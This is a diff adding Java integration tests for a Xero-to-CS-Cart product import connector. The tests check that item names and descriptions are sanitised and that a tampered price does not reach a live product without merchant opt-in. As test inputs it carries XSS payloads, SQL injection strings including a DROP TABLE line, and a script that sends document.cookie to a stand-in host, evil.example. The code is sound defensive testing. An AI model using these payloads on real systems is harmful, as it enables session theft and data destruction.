@@ -138,6 +138,29 @@ class ProductImportBadInputTest extends BadStoreRun<CustomerImportBadInputTest.S
                 Case.synced("code with '/' and blanks", "Code 'AB/12 X'",
                         s -> s.xero().item(item("AB/12 X", "Slashed", new BigDecimal("5.00"))),
                         id -> assertThat(product(id).get("product_code")).isEqualTo("AB/12 X")),
+                Case.synced("script and markup in name and description", "Name '<img src=x onerror=alert(1)>Mug', Description '<script>…' with line breaks",
+                        s -> s.xero().item(item("XSS-1", "<img src=x onerror=alert(1)>Mug", new BigDecimal("5.00"))
+                                .put("Description", "<script>alert(document.cookie)</script>\nLine two & <b>bold</b>\r\nLine three")),
+                        id -> {
+                            Map<String, Object> p = product(id);
+                            assertThat(p.get("product")).isEqualTo("Mug");
+                            assertThat((String) p.get("full_description")).doesNotContain("<script").doesNotContain("<b>")
+                                    .isEqualTo("&lt;script&gt;alert(document.cookie)&lt;/script&gt;<br>\nLine two &amp; &lt;b&gt;bold&lt;/b&gt;<br>\nLine three");
+                        }),
+                Case.synced("name that is only markup", "Name '<img src=x onerror=alert(1)>' (nothing left once tags go)",
+                        s -> s.xero().item(item("XSS-2", "<img src=x onerror=alert(1)>", new BigDecimal("5.00"))),
+                        id -> assertThat(product(id).get("product")).isEqualTo("XSS-2")),
+                Case.synced("entities that decode to a tag", "Name '&lt;script&gt;alert(1)&lt;/script&gt; Mug'",
+                        s -> s.xero().item(item("XSS-3", "&lt;script&gt;alert(1)&lt;/script&gt; Mug", new BigDecimal("5.00"))),
+                        id -> assertThat((String) product(id).get("product")).doesNotContain("<")),
+                Case.synced("code with markup", "Code '<b>BOLD-1</b>'",
+                        s -> s.xero().item(item("<b>BOLD-1</b>", "Bold code", new BigDecimal("5.00"))),
+                        id -> assertThat(product(id).get("product_code")).isEqualTo("BOLD-1")),
+                Case.synced("SQL-looking text", "Name \"Mug'); DROP TABLE cscart_products;--\", Description \"' OR 1=1 --\"",
+                        s -> s.xero().item(item("SQL-1", "Mug'); DROP TABLE cscart_products;--", new BigDecimal("5.00"))
+                                .put("Description", "' OR 1=1 --")),
+                        id -> assertThat(product(id)).containsEntry("product", "Mug'); DROP TABLE cscart_products;--")
+                                .containsEntry("full_description", "&#039; OR 1=1 --")),
                 Case.synced("code of two CS-Cart products", "CS-Cart has 'TWICE-1' twice; the lowest id is updated",
                         s -> {
                             long first = s.store().product("TWICE-1", "First twice", "5.00");
@@ -147,6 +170,65 @@ class ProductImportBadInputTest extends BadStoreRun<CustomerImportBadInputTest.S
                             return id;
                         },
                         id -> assertThat(product(id)).containsEntry("status", "H").containsEntry("product", "Twice renamed")));
+    }
+
+    /** Price warnings of the matched existing products (SKU-CASE, PAD-1, TWICE-1): error-log rows that skip nothing. */
+    @Override
+    long extraLogged() {
+        return 3;
+    }
+
+    @Test
+    void pricesOfExistingProductsStayAndEachChangeIsReported() {
+        assertThat(store().queryForList("SELECT pr.price FROM cscart_product_prices pr JOIN cscart_products p ON p.product_id = pr.product_id "
+                + "WHERE TRIM(p.product_code) IN ('SKU-CASE', 'PAD-1', 'TWICE-1') AND pr.lower_limit = 1 AND pr.usergroup_id = 0", BigDecimal.class))
+                .hasSize(4).allSatisfy(price -> assertThat(price).isEqualByComparingTo("5.00"));
+        assertThat(errors).filteredOn(e -> e.message().startsWith("Warning: the price")).hasSize(3)
+                .allSatisfy(e -> assertThat(e.message()).contains("cscart.import.update-prices=true"));
+    }
+
+    /**
+     * Someone with access to Xero edits the item of a live product: price 5,399.99 → 0.01, a name and a description
+     * carrying script. The price stays (a warning row says what Xero holds) until the merchant turns on
+     * {@code cscart.import.update-prices}; the status never changes; no markup reaches CS-Cart.
+     */
+    @Test
+    void anItemEditedInXeroCannotRepriceOrInjectIntoALiveProduct() {
+        try (ConnectorHarness own = ConnectorHarness.start()) {
+            StoreRows rows = new StoreRows(own.cscartJdbc());
+            long live = rows.product("LIVE-1", "Gaming laptop", "5399.99");
+            own.set("cscart.import.category-id", "3");
+            var app = own.startApp();
+            assertThat(ConnectorHarness.jobs(app).run("productExportJob", Map.of()).exitCode()).isZero();
+            String itemId = app.getBean(org.springframework.jdbc.core.JdbcTemplate.class).queryForObject(
+                    "SELECT xero_id FROM sync_link WHERE entity = 'ITEM' AND cscart_id = ?", String.class, Long.toString(live));
+            new io.cscartxero.it.XeroUser(own.sandbox).post("/Items?unitdp=4", """
+                    {"Items":[{"ItemID":"%s","Code":"LIVE-1","Name":"<img src=x onerror=alert(1)>",
+                      "Description":"<script>document.location='https://evil.example/?'+document.cookie</script>",
+                      "SalesDetails":{"UnitPrice":0.01}}]}""".formatted(itemId));
+            var store = own.cscartJdbc();
+            String sql = "SELECT p.status, d.product, d.full_description, pr.price FROM cscart_products p JOIN cscart_product_descriptions d "
+                    + "ON d.product_id = p.product_id AND d.lang_code = 'en' JOIN cscart_product_prices pr ON pr.product_id = p.product_id "
+                    + "AND pr.lower_limit = 1 AND pr.usergroup_id = 0 WHERE p.product_id = ?";
+
+            var outcome = ConnectorHarness.jobs(app).run(job(), Map.of());
+
+            assertThat(outcome.exitCode()).as(outcome.message()).isZero();
+            Map<String, Object> p = store.queryForMap(sql, live);
+            assertThat(p).containsEntry("status", "A").containsEntry("product", "Gaming laptop");
+            assertThat((BigDecimal) p.get("price")).isEqualByComparingTo("5399.99");
+            assertThat((String) p.get("full_description")).doesNotContain("<script").startsWith("&lt;script&gt;document.location=");
+            assertThat(app.getBean(io.cscartxero.sync.ErrorLog.class).find(job(), outcome.execution().getId(), 10)).singleElement()
+                    .satisfies(e -> assertThat(e.message()).contains("0.01").contains("5399.99").contains("cscart.import.update-prices=true"));
+
+            own.set("cscart.import.update-prices", "true");
+            var allowed = ConnectorHarness.jobs(own.startApp()).run(job(), Map.of("full", "true"));
+
+            assertThat(allowed.exitCode()).as(allowed.message()).isZero();
+            p = store.queryForMap(sql, live);
+            assertThat((BigDecimal) p.get("price")).as("the merchant allowed price updates").isEqualByComparingTo("0.01");
+            assertThat(p).containsEntry("status", "A").containsEntry("product", "Gaming laptop");
+        }
     }
 
     /** Found by this suite (a second product was created), fixed in ccff772. */
